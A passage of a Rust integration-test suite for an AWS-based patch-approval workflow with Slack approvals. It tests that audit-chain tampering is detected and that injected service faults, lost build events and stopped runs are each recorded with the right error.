            .set_key(Some(item(2)))
            .update_expression("SET actor = :m")
            .expression_attribute_values(
                ":m",
                aws_sdk_dynamodb::types::AttributeValue::S(actor.into()),
            )
            .send()
    };
    // Edit record 2.
    set_actor_of_2("mallory").await?;
    let (ok, out) = verify().await?;
    assert!(!ok && out.contains("record 2 was modified"), "{out}");
    set_actor_of_2("bob").await?;
    assert!(verify().await?.0, "restored");
    // Delete the newest record and move the head back to 3: the S3 anchor remembers 4.
    let (records, _) = audit::read_chain(&trail).await?;
    p.stack
        .db
        .delete_item()
        .table_name(&p.audit_table)
        .set_key(Some(item(4)))
        .send()
        .await?;
    let mut head = item(0);
    head.insert(
        "chain".into(),
        aws_sdk_dynamodb::types::AttributeValue::S(format!("head#{chain}")),
    );
    head.insert(
        "headSeq".into(),
        aws_sdk_dynamodb::types::AttributeValue::N("3".into()),
    );
    head.insert(
        "headHash".into(),
        aws_sdk_dynamodb::types::AttributeValue::S(records[2].hash.clone()),
    );
    p.stack
        .db
        .put_item()
        .table_name(&p.audit_table)
        .set_item(Some(head))
        .send()
        .await?;
    let (ok, out) = verify().await?;
    assert!(
        !ok && out.contains("newest record(s) 4..=4 were deleted"),
        "{out}"
    );
    // Rewrite the whole chain with recomputed hashes (an edit to record 1, consistent links).
    let mut prev = audit::GENESIS_HASH.to_string();
    for mut r in records.into_iter().take(3) {
        if r.seq == 1 {
            r.actor = "mallory".into();
        }
        r.prev_hash = prev.clone();
        r.hash = audit::record_hash(&r);
        prev = r.hash.clone();
        p.stack
            .db
            .put_item()
            .table_name(&p.audit_table)
            .set_item(Some(batchless_core::platform::dynamo::to_item(&r)))
            .send()
            .await?;
    }
    let (ok, out) = verify().await?;
    assert!(!ok && out.contains("record 1 was rewritten"), "{out}");
    Ok(())
}

#[tokio::test]
async fn a_start_build_error_is_recorded_and_the_lost_event_is_caught_by_the_poll() -> Result<()> {
    let p = P::setup().await?;
    // StartBuild refused (not retried) → Errored, recorded ERROR.
    let refused = [fault::aws(
        "codebuild",
        "StartBuild",
        "InvalidInputException",
        1,
    )];
    let (id, arn, ended) = p.approved_run(json!({}), &refused).await?;
    Expect::error("AwsServiceError")
        .check(&p.stack, &arn, &ended)
        .await?;
    assert_eq!(p.record(&id).await?["status"], "ERROR");
    // The build's state-change event is lost: the safety-net poll notices the end. The build
    // (14 s) outlasts register-wait's re-check and the first (scaled 10 s) wait.
    let slow = json!({"task": "fake:sleep", "args": ["14"]});
    let lost = [fault::lost_build_end(Some(&p.project))];
    let (_, arn, ended) = p.approved_run(slow, &lost).await?;
    Expect {
        entered: &["PollBuild"],
        ..Expect::succeeded()
    }
    .check(&p.stack, &arn, &ended)
    .await?;
    Ok(())
}

/// After the build: the log cannot be archived, the audit check cannot record its verdict, and
/// Slack is down for the result. The run still ends, recorded, as `AuditCheckFailed`.
#[tokio::test]
async fn failures_after_the_build_are_recorded_and_named() -> Result<()> {
    let p = P::setup().await?;
    let faults = [
        // The work log's upload: CodeBuild's own phase lines are only in the log (not in the
        // audit anchors, nor in the run's measure, which holds the command's output tail).
        fault::aws_matching("s3", "PutObject", "Entering phase BUILD", "AccessDenied", 1),
        // Only the audit check writes a verdict to the patch record.
        fault::aws_matching(
            "dynamodb",
            "UpdateItem",
            "verdict",
            "ValidationException",
            1,
        ),
        // The decision's thread reply (1) and every Notify attempt (4) fail.
        fault::slack("chat.postMessage", "internal_error", 5),
    ];
    let (id, arn, ended) = p.approved_run(json!({}), &faults).await?;
    Expect {
        entered: &[
            "CollectLogs",
            "AuditCheck",
            "RecordOutcome",
            "Notify",
            "AuditCheckFailed",
        ],
        ..Expect::error("AuditCheckFailed")
    }
    .check(&p.stack, &arn, &ended)
    .await?;
    let rec = p.record(&id).await?;
    assert_eq!(rec["status"], "SUCCEEDED");
    assert!(rec.get("logUri").is_none(), "{rec}");
    let finished = p.audit_event(&id, "FINISHED").await?;
    assert_eq!(finished["status"], "SUCCEEDED");
    Ok(())
}

/// Before and while waiting: Slack refuses the approval request, the wait cannot be
/// registered, the safety-net poll is refused. Each run ends with the step's error, recorded.
#[tokio::test]
async fn failures_of_the_waits_end_the_run_recorded() -> Result<()> {
    let p = P::setup().await?;
    // Slack is down for every attempt of the approval request (1 + 5 retries).
    p.stack
        .faults(&[fault::slack("chat.postMessage", "internal_error", 6)])
        .await?;
    let (id, arn) = p.submit_request(json!({})).await?;
    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
    p.stack.clear_faults().await?;
    Expect::error("SlackError")
        .check(&p.stack, &arn, &ended)
        .await?;
    assert_eq!(p.record(&id).await?["status"], "ERROR");
    assert!(p.builds_of(&id, PATCH_ID_VAR).await?.is_empty());

    let cases = [
        // The build's wait cannot be stored.
        (
            json!({}),
            vec![fault::aws_matching(
                "dynamodb",
                "PutItem",
                &p.stack.table("WaitsTable")?,
                "ValidationException",
                1,
            )],
            Expect {
                entered: &["WaitForBuild"],
                ..Expect::error("AwsServiceError")
            },
        ),
        // The end-of-build event is lost and CodeBuild refuses the poll (register-wait's
        // re-check, the first BatchGetBuilds, goes through; the 8 s build outlasts it).
        (
            json!({"task": "fake:sleep", "args": ["8"]}),
            vec![
                fault::lost_build_end(Some(&p.project)),
                fault::aws_after("codebuild", "BatchGetBuilds", "InvalidInputException", 1, 1),
            ],
            Expect {
                entered: &["PollBuild"],
                not_entered: &["BuildEnded?"],
                ..Expect::error("AwsServiceError")
            },
        ),
        // The build's end wakes the wait and the re-check that follows fails (only
        // RecheckBuild's poll, `woken: true`; the build has ended: nothing is left running).
        (
            json!({}),
            vec![fault::lambda_error(
                "poll-build",
                json!({"woken": true}),
                "AwsServiceError",
                1,
            )],
            Expect {
                entered: &["RecheckBuild"],
                not_entered: &["CollectLogs"],
                ..Expect::error("AwsServiceError")
            },
        ),
    ];
    for (extra, faults, expect) in cases {
        let (id, arn, ended) = p.approved_run(extra, &faults).await?;
        expect.check(&p.stack, &arn, &ended).await?;
        assert_eq!(p.record(&id).await?["status"], "ERROR");
    }
    Ok(())
}

/// An environment deployed with `PatchDryRun=off`: the request goes straight to its approval
/// request, which says that nothing previews the patch; the approved patch runs.
#[tokio::test]
async fn with_the_dry_run_off_the_approval_request_says_so_and_the_patch_runs() -> Result<()> {
    let other = OtherStack::up(Setup::NoDryRun)?;
    let p = P::on(other.stack().await?)?;
    let (id, arn) = p.submit_request(json!({})).await?;
    let rec = p.pending(&id).await?;
    assert!(rec.get("preview").is_none(), "{rec}");
    let ts = rec["approvalMessage"]["ts"].as_str().unwrap_or_default();
    let posted = p.stack.slack_messages(PATCHES_CHANNEL).await?;
    let msg = posted
        .iter()
        .find(|m| m["ts"] == ts)
        .context("approval request posted")?
        .to_string();
    assert!(
        msg.contains("the dry run is off in this environment"),
        "{msg}"
    );
    let (status, body) = p
        .click(&id, ALICE_SLACK, "patch_approve", json!({}))
        .await?;
    assert_eq!(status, 200, "{body}");
    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
    Expect {
        entered: &["DryRun?", "RequestApproval", "StartPatchBuild"],
        not_entered: &["StartDryRun", "RecordPreview"],
        ..Expect::succeeded()
    }
    .check(&p.stack, &arn, &ended)
    .await?;
    assert_eq!(p.builds_of(&id, PATCH_ID_VAR).await?.len(), 1);
    assert!(!p
        .audit_names(&id)
        .await?
        .iter()
        .any(|e| e == "DRY_RUN_STARTED"));
    // A dry run only asks for what this environment does not run: refused, nothing recorded.
    let (id, arn) = p.submit_request(json!({"dryRunOnly": true})).await?;
    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
    Expect {
        cause_has: &["dryRunOnly", "the dry run is off"],
        ..Expect::error("InvalidInput")
    }
    .check(&p.stack, &arn, &ended)
    .await?;
    assert!(p.find_record(&id).await?.is_none(), "nothing recorded");
    Ok(())
}

/// The dry run's build id, once its wait is registered and re-checked (`TaskSubmitted`: the
/// register-wait invocation returned): from here only the safety-net poll reads that build.
async fn registered_dry_run(p: &P, arn: &str) -> Result<String> {
    eventually("the dry run's wait registered", TIMEOUT, || async {
        let history = p.stack.history(arn).await?;
        if !history
            .iter()
            .any(|e| e.r#type() == &aws_sdk_sfn::types::HistoryEventType::TaskSubmitted)
        {
            return Ok(None);
        }
        Ok(history
            .iter()
            .filter_map(|e| e.state_exited_event_details())
            .filter(|d| d.name() == "StartDryRun")
            .filter_map(|d| d.output())
            .filter_map(|o| serde_json::from_str::<Value>(o).ok())
            .find_map(|o| o["previewBuild"]["buildId"].as_str().map(str::to_string)))
    })
    .await
}

/// The dry run breaks before the approval request (CodeBuild refuses it, its wait cannot be
/// stored, or its end event is lost and CodeBuild refuses the poll): the run is recorded
/// `ERROR` and nothing was asked of an approver or built.
#[tokio::test]
async fn a_dry_run_that_cannot_start_be_waited_for_or_polled_errors_the_run_before_any_approval(
) -> Result<()> {
    let p = P::setup().await?;
    let waits = p.stack.table("WaitsTable")?;
    let cases = [
        (
            json!({}),
            vec![fault::aws(
                "codebuild",
                "StartBuild",
                "InvalidInputException",
                1,
            )],
            ["StartDryRun", "WaitForDryRun"],
        ),
        (
            json!({}),
            vec![fault::aws_matching(
                "dynamodb",
                "PutItem",
                &waits,
                "ValidationException",
                1,
            )],
            ["WaitForDryRun", "RecordPreview"],
        ),
        // The dry run's end event is lost, and once its wait is registered (and re-checked),
        // CodeBuild refuses every read of that build: the safety-net poll fails.
        (
            json!({"task": "fake:sleep", "args": ["4"]}),
            vec![fault::lost_build_end(Some(&p.project))],
            ["PollDryRun", "DryRunEnded?"],
        ),
    ];
    for (extra, faults, [failing, next]) in cases {
        p.stack.faults(&faults).await?;
        let run = async {
            let (id, arn) = p.submit_request(extra).await?;
            if failing == "PollDryRun" {
                let build = registered_dry_run(&p, &arn).await?;
                p.stack
                    .fault(fault::aws_matching(
                        "codebuild",
                        "BatchGetBuilds",
                        &build,
                        "InvalidInputException",
                        10,
                    ))
                    .await?;
            }
            let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
            anyhow::Ok((id, arn, ended))
        }
        .await;
        p.stack.clear_faults().await?;
        let (id, arn, ended) = run?;
        Expect {
            entered: &[failing, "RecordOutcome"],
            not_entered: &[next, "RequestApproval", "StartPatchBuild"],
            ..Expect::error("AwsServiceError")
        }
        .check(&p.stack, &arn, &ended)
        .await?;
        let rec = p.record(&id).await?;
        assert_eq!(rec["status"], "ERROR", "{failing}: {rec}");
        assert!(rec.get("approvalMessage").is_none(), "{failing}: {rec}");
        assert!(
            p.builds_of(&id, PATCH_ID_VAR).await?.is_empty(),
            "{failing}"
        );
    }
    Ok(())
}

/// The dry run's end event is lost: the safety-net poll finds it ended, and the approvers
/// still get its preview.
#[tokio::test]
async fn a_lost_dry_run_end_is_found_by_the_poll_and_its_preview_shown() -> Result<()> {
    let p = P::setup().await?;
    p.stack
        .faults(&[fault::lost_build_end(Some(&p.project))])
        .await?;
    let run = async {
        let (id, arn) = p
            .submit_request(json!({"task": "fake:sleep", "args": ["4"]}))
            .await?;
        let rec = p.pending(&id).await?;
        anyhow::Ok((id, arn, rec))
    }
    .await;
    p.stack.clear_faults().await?;
    let (id, arn, rec) = run?;
    assert!(rec.get("preview").is_some(), "{rec}");
    let (status, body) = p.click(&id, CAROL_SLACK, "patch_reject", json!({})).await?;
    assert_eq!(status, 200, "{body}");
    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
    Expect {
        entered: &[
            "PollDryRun",
            "DryRunEnded?",
            "RecordPreview",
            "RequestApproval",
        ],
        not_entered: &["StartPatchBuild"],
        ..Expect::error("PatchRejected")
    }
    .check(&p.stack, &arn, &ended)
    .await?;
    Ok(())
}

/// The approval behind a running build disappears from the record (edited in DynamoDB): the
/// audit check finds the build no longer backed by an approval → `VIOLATION`, the run fails
/// `AuditViolation` and the verdict is in the audit trail.
#[tokio::test]
async fn a_build_no_longer_backed_by_its_approval_is_an_audit_violation() -> Result<()> {
    let p = P::setup().await?;
    let slow = json!({"task": "fake:sleep", "args": ["5"]});
    let (id, arn) = p.submit_request(slow).await?;
    p.pending(&id).await?;
    p.click(&id, ALICE_SLACK, "patch_approve", json!({}))
        .await?;
    eventually("the build to start", TIMEOUT, || async {
        Ok(p.record(&id).await?.get("buildId").map(|_| ()))
    })
    .await?;
    p.edit_record(
        &id,
        "SET decisions = :v",
        aws_sdk_dynamodb::types::AttributeValue::M(Default::default()),
    )
    .await?;
    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
    Expect {
        cause_has: &["is not approved"],
        ..Expect::error("AuditViolation")
    }
    .check(&p.stack, &arn, &ended)
    .await?;
    let verdict = p.audit_event(&id, "VERDICT").await?;
    assert_eq!(verdict["verdict"], "VIOLATION");
    Ok(())
}

/// Stopped from the console while waiting for approval: no Catch runs, so the cleanup rule
/// ends the record `ABORTED` and the audit trail says so (no patch is left pending forever).
#[tokio::test]
async fn a_stopped_patch_execution_is_ended_in_the_record_and_the_audit_trail() -> Result<()> {
    let p = P::setup().await?;
    let (id, arn) = p.submit_request(json!({})).await?;
    p.pending(&id).await?;
    p.stack
        .sfn
        .stop_execution()
        .execution_arn(&arn)
        .error("Operator")
        .cause("stopped from the console")
        .send()
        .await?;
    eventually("the record to end", TIMEOUT, || async {
        Ok((p.record(&id).await?["status"] == "ABORTED").then_some(()))
    })
    .await?;
    // Cleanup ends the record, then appends FINISHED to the audit trail: wait for both.
    let finished = eventually("FINISHED in the audit trail", TIMEOUT, || {
        p.find_audit_event(&id, "FINISHED")
    })
    .await?;
    assert_eq!(finished["status"], "ABORTED");
    assert!(p.builds_of(&id, PATCH_ID_VAR).await?.is_empty());
    Ok(())
}
